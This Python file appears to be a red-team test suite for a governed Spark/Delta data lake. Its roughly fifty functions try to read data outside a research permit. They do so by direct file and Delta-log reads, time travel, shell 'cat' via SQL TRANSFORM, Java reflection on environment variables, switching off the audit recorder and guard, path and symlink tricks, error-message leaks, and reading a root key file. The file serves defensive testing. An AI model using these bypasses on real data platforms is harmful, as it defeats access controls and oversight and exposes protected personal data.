"""Group A: forty ways to read what a permit does not cover, each a function that returns what it got hold of.

They know nothing of the platform but a table function and the lake's folder, so that the same code runs against
plain Spark, the Guarded and the Sealed level. Returning nothing, or raising, means that nothing was got.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

OPTED_OUT = 5
"""Person of the ten-person lake who has opted out."""

PERMITTED = "municipality = '461'"
LAST_DAY = 17532 + 365
"""31 December 2018 and later is outside the permit's period."""


@dataclass
class World:
    """What an attacker has: a session, the way to ask for a table, the path of the lake, a folder of their own."""

    spark: Any
    table: Callable[..., Any]
    gold: Path
    own: Path
    study: Any = None
    swap: Callable[[], None] = lambda: None
    opt_out: Callable[[], None] = lambda: None
    expire: Callable[[], None] = lambda: None
    notes: dict[str, Any] = field(default_factory=dict)

    def delta(self, table: str, **options: str) -> Any:
        """A table by its path, as plain Spark reads it."""
        return self.spark.read.format("delta").options(**options).load(str(self.gold / table))

    def file(self, table: str) -> str:
        """One data file of a table."""
        return str(next((self.gold / table).glob("*.parquet")))

    def empty_jar(self) -> Path:
        """A JAR of the attacker's own."""
        jar = self.own / "evil.jar"
        jar.write_bytes(b"PK\x05\x06" + bytes(18))
        return jar


Attack = Callable[[World], Any]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    """Enter an attack into the suite under its number."""

    def enter(function: Attack) -> Attack:
        ATTACKS[name] = function
        return function

    return enter


@attack("A1 other table")
def _(w: World) -> Any:
    return w.table("gold.spell").collect()


@attack("A2 other column by name")
def _(w: World) -> Any:
    return w.table("gold.event", ["code", "row_number"]).select("row_number").collect()


@attack("A3 star")
def _(w: World) -> Any:
    columns = set(w.table("gold.event").select("*").columns) - {"person_id", "day", "code", "domain"}
    return [row for row in w.table("gold.event").select("*").collect() if columns]


@attack("A4 nested element")
def _(w: World) -> Any:
    return w.table("gold.timeline").selectExpr("element_at(setting, 1)").collect()


@attack("A5 filter-only column shown through a condition")
def _(w: World) -> Any:
    return (
        w.table("gold.event", ["code", "place"])
        .selectExpr("code", "if(place = 'hospital 1', 1, 0) shown")
        .collect()
    )


@attack("A6 join-only column shown")
def _(w: World) -> Any:
    return w.table("gold.event", ["code", "setting"]).groupBy("setting").count().select("setting").collect()


@attack("A7 filter-only column through the order")
def _(w: World) -> Any:
    return w.table("gold.event", ["code", "place"]).orderBy("place").select("code").limit(3).collect()


@attack("A7 filter-only column through a window")
def _(w: World) -> Any:
    frame = w.table("gold.event", ["code", "place"])
    return frame.selectExpr("code", "rank() over (order by place) as r").collect()


@attack("A8 aggregate over an ungranted column")
def _(w: World) -> Any:
    return [
        row for row in w.delta("event").selectExpr("count(value_num)", "max(value_num)").collect() if row[0]
    ]


@attack("A9 Delta path")
def _(w: World) -> Any:
    return w.delta("spell").collect()


@attack("A9 Delta path in SQL, in a subquery")
def _(w: World) -> Any:
    w.table("gold.event").createOrReplaceTempView("events_a9")
    inner = f"SELECT person_id FROM delta.`{w.gold / 'spell'}`"
    return w.spark.sql(f"SELECT code, ({inner} LIMIT 1) s FROM events_a9").collect()


@attack("A10 raw Parquet")
def _(w: World) -> Any:
    return w.spark.read.parquet(str(w.gold / "event") + "/*.parquet").collect()


@attack("A11 Delta log")
def _(w: World) -> Any:
    return w.spark.read.json(str(w.gold / "event" / "_delta_log") + "/*.json").collect()


@attack("A12 time travel")
def _(w: World) -> Any:
    return w.delta("event", versionAsOf="1").collect()


@attack("A13 change data feed")
def _(w: World) -> Any:
    return w.delta("event", readChangeFeed="true", startingVersion="0").collect()


@attack("A14 history")
def _(w: World) -> Any:
    return w.spark.sql(f"DESCRIBE HISTORY delta.`{w.gold / 'spell'}`").collect()


@attack("A14 detail")
def _(w: World) -> Any:
    return w.spark.sql(f"DESCRIBE DETAIL delta.`{w.gold / 'spell'}`").collect()


@attack("A15 shallow clone")
def _(w: World) -> Any:
    target = w.own / "clone"
    w.spark.sql(f"CREATE OR REPLACE TABLE delta.`{target}` SHALLOW CLONE delta.`{w.gold / 'spell'}`")
    return w.spark.read.format("delta").load(str(target)).collect()


@attack("A15 create table as select")
def _(w: World) -> Any:
    target = w.own / "ctas"
    w.spark.sql(
        f"CREATE OR REPLACE TABLE delta.`{target}` USING delta AS SELECT * FROM delta.`{w.gold / 'spell'}`"
    )
    return w.spark.read.format("delta").load(str(target)).collect()


@attack("A16 global view over a path")
def _(w: World) -> Any:
    w.delta("spell").createOrReplaceGlobalTempView("a16")
    return w.spark.table("global_temp.a16").collect()


@attack("A17 shared cache")
def _(w: World) -> Any:
    frame = w.delta("spell").cache()
    try:
        return [frame.count()] if frame.count() else []
    finally:
        frame.unpersist()


@attack("A18 function opening a file in the worker")
def _(w: World) -> Any:
    from pyspark.sql import functions as fn

    path = w.file("spell")

    def peek(code: str) -> str:
        return Path(path).read_bytes()[:4].decode()

    read = fn.udf(peek, "string")
    return [row[0] for row in w.spark.range(2).select(read(fn.col("id").cast("string"))).collect() if row[0]]


@attack("A18 Arrow function opening a file in the worker")
def _(w: World) -> Any:
    path = w.file("spell")

    def peek(batches: Any) -> Any:
        import pyarrow as pa
        import pyarrow.parquet as pq

        rows = pq.read_table(path).num_rows
        for _ in batches:
            yield pa.RecordBatch.from_pydict({"n": pa.array([rows], pa.int64())})

    return w.spark.range(1).mapInArrow(peek, "n long").collect()


@attack("A19 open in the driver")
def _(w: World) -> Any:
    return Path(w.file("spell")).read_bytes()


@attack("A19 Arrow in the driver")
def _(w: World) -> Any:
    import pyarrow.parquet as pq

    return pq.read_table(w.file("spell")).to_pylist()


@attack("A19 Arrow data set in the driver")
def _(w: World) -> Any:
    import pyarrow.dataset as ds

    return (
        ds.dataset(str(w.gold / "spell"), format="parquet", exclude_invalid_files=True).to_table().to_pylist()
    )


@attack("A19 DuckDB in the driver")
def _(w: World) -> Any:
    sys.modules.pop("duckdb", None)
    import duckdb

    return duckdb.sql(f"SELECT * FROM '{w.file('spell')}'").fetchall()


@attack("A19 delta-rs in the driver")
def _(w: World) -> Any:
    from deltalake import DeltaTable

    return DeltaTable(str(w.gold / "spell")).to_pyarrow_table().to_pylist()


@attack("A20 Hadoop's file system through the JVM")
def _(w: World) -> Any:
    jvm = w.spark._jvm
    place = jvm.org.apache.hadoop.fs.Path(w.file("spell"))
    stream = place.getFileSystem(w.spark.sparkContext._jsc.hadoopConfiguration()).open(place)
    return [stream.read()]


@attack("A20 Java's own files through the JVM")
def _(w: World) -> Any:
    return list(
        w.spark._jvm.java.nio.file.Files.readAllBytes(w.spark._jvm.java.io.File(w.file("spell")).toPath())
    )


@attack("A21 RDD of files")
def _(w: World) -> Any:
    return w.spark.sparkContext.binaryFiles(str(w.gold / "spell")).count()


@attack("A22 file names")
def _(w: World) -> Any:
    return w.table("gold.event").select("_metadata.file_path").collect()


@attack("A23 TRANSFORM")
def _(w: World) -> Any:
    w.table("gold.event").createOrReplaceTempView("events_a23")
    query = f"SELECT TRANSFORM(code) USING 'cat {w.file('spell')}' AS (x STRING) FROM events_a23"
    return w.spark.sql(query).collect()


@attack("A20 Java method called from SQL")
def _(w: World) -> Any:
    return w.spark.sql("SELECT reflect('java.lang.System', 'getProperty', 'user.dir')").collect()


@attack("A20 Java method called from SQL over a granted table")
def _(w: World) -> Any:
    frame = w.table("gold.event")
    return frame.selectExpr("java_method('java.lang.System', 'getenv', code) seen", "code").collect()


@attack("A21 file handed to the workers")
def _(w: World) -> Any:
    from pyspark import SparkFiles

    path = w.file("spell")
    w.spark.sparkContext.addFile(path)
    return Path(SparkFiles.get(Path(path).name)).read_bytes()


@attack("A21 file of text")
def _(w: World) -> Any:
    return w.spark.sparkContext.textFile(str(w.gold / "spell" / "_delta_log" / "*.json")).collect()


@attack("A24 ADD JAR")
def _(w: World) -> Any:
    w.spark.sql(f"ADD JAR '{w.empty_jar()}'")
    return w.spark.sql("LIST JARS").collect()


@attack("A24 ADD JAR in a script")
def _(w: World) -> Any:
    w.spark.sql(f"/* a remark */ BEGIN IF true THEN ADD JAR '{w.empty_jar()}'; END IF; END")
    return w.spark.sql("LIST JARS").collect()


@attack("A24 ADD FILE of a table's file")
def _(w: World) -> Any:
    from pyspark import SparkFiles

    path = w.file("spell")
    w.spark.sql(f"ADD FILE '{path}'")
    return Path(SparkFiles.get(Path(path).name)).read_bytes()


@attack("A24 table's file sent as an artefact of the session")
def _(w: World) -> Any:
    path = w.file("spell")
    w.spark.addArtifacts(path, file=True)
    return w.spark.sql("LIST FILES").collect()


@attack("A27 table made over a folder")
def _(w: World) -> Any:
    w.spark.catalog.createTable("sly_table", path=str(w.gold / "spell"), source="parquet")
    try:
        return w.spark.table("sly_table").collect()
    finally:
        w.spark.sql("DROP TABLE sly_table")


@attack("A24 Python data source")
def _(w: World) -> Any:
    from pyspark.sql.datasource import DataSource, DataSourceReader

    path = w.file("spell")

    class Reader(DataSourceReader):
        def read(self, partition: Any) -> Any:
            yield (Path(path).stat().st_size, Path(path).read_bytes()[:4].decode())

    class Source(DataSource):
        @classmethod
        def name(cls) -> str:
            return "sly"

        def schema(self) -> str:
            return "size long, head string"

        def reader(self, schema: Any) -> Any:
            return Reader()

    w.spark.dataSource.register(Source)
    return w.spark.read.format("sly").load().collect()


@attack("A25 setting that makes counts invisible")
def _(w: World) -> Any:
    name = "spark.databricks.delta.optimizeMetadataQuery.enabled"
    before = w.spark.conf.get(name)
    w.spark.conf.set(name, "true")
    w.notes["undo"] = lambda: w.spark.conf.set(name, before)
    return [row for row in w.delta("spell").groupBy().count().collect() if row[0]]


@attack("A26 recorder replaced")
def _(w: World) -> Any:
    if w.study is not None:
        w.study._observer.take = lambda record: None
        w.study._guard.gate = lambda frame: None
        from lakehouse.governance.guard import plan_check

        plan_check._checks = ()
    return w.delta("spell").collect()


@attack("A26 new session")
def _(w: World) -> Any:
    return w.spark.newSession().read.format("delta").load(str(w.gold / "spell")).collect()


@attack("A26 another process")
def _(w: World) -> Any:
    code = f"from pathlib import Path; print(len(Path({w.file('spell')!r}).read_bytes()))"
    script = w.own / "sly.py"
    script.write_text(code)
    return subprocess.run([sys.executable, str(script)], capture_output=True, text=True, check=True).stdout


@attack("A27 binary format")
def _(w: World) -> Any:
    return w.spark.read.format("binaryFile").load(str(w.gold / "spell") + "/*.parquet").collect()


@attack("A28 stream")
def _(w: World) -> Any:
    stream = w.spark.readStream.format("delta").load(str(w.gold / "spell"))
    running = stream.writeStream.format("memory").queryName("a28").trigger(availableNow=True).start()
    running.awaitTermination()
    return w.spark.table("a28").collect()


@attack("A29 link to a table")
def _(w: World) -> Any:
    link = w.own / "harmless"
    link.unlink(missing_ok=True)
    link.symlink_to(w.gold / "spell")
    return w.spark.read.format("delta").load(str(link)).collect()


@attack("A29 way round with ..")
def _(w: World) -> Any:
    path = f"{w.own}/../{w.own.name}/../" + str(w.gold.relative_to(w.own.parent) / "spell")
    return w.spark.read.format("delta").load(path).collect()


@attack("A29 name in another case, in backticks, in look-alike letters")
def _(w: World) -> Any:
    for name in ("gold.SPELL", "`gold.spell`", "gold.spеll"):
        try:
            if found := w.table(name).collect():
                return found
        except Exception:
            continue
    return w.table("gold.event").selectExpr("`ROW_NUMBER`").collect()


@attack("A30 permit expired in the middle")
def _(w: World) -> Any:
    frame = w.table("gold.event")
    w.expire()
    return frame.collect()


@attack("A32 person opted out in the middle")
def _(w: World) -> Any:
    frame = w.table("gold.person", ["birth_year"])
    frame.count()
    w.opt_out()
    return [row for row in frame.collect() if row.birth_year == 1950]


@attack("A33 error message before the row filter")
def _(w: World) -> Any:
    frame = w.table("gold.person", ["birth_year"])
    try:
        frame.selectExpr("if(birth_year > 1965, raise_error(cast(birth_year as string)), 0)").collect()
    except Exception as error:
        return [year for year in ("1970", "1975", "1980", "1985", "1990") if f" {year}" in str(error)]
    return []


@attack("A33 error message from a condition, of a person who has opted out")
def _(w: World) -> Any:
    frame = w.table("gold.person", ["birth_year"])
    try:
        frame.where("if(birth_year = 1965, raise_error('seen 1965'), true)").collect()
    except Exception as error:
        return ["1965"] if "seen 1965" in str(error) else []
    return []


@attack("A34 day outside the period")
def _(w: World) -> Any:
    return [row for row in w.table("gold.event").select("day").collect() if row.day > LAST_DAY]


@attack("A34 person outside the population")
def _(w: World) -> Any:
    return [row for row in w.table("gold.person", ["birth_year"]).collect() if row.birth_year > 1965]


@attack("A34 person who has opted out")
def _(w: World) -> Any:
    return [
        row
        for row in w.table("gold.person", ["birth_year"]).collect()
        if row.birth_year == 1940 + 5 * OPTED_OUT
    ]


@attack("A35 another table in a table's place")
def _(w: World) -> Any:
    w.swap()
    return w.table("gold.vocabulary").collect()


@attack("A36 artefact of another study as a data channel")
def _(w: World) -> Any:
    path = w.gold.parents[1] / "results" / "another" / "run" / "patterns.json"
    return json.loads(path.read_text())


@attack("A36 key of the lake")
def _(w: World) -> Any:
    return (w.gold.parents[1] / "keys" / "root.key").read_bytes()
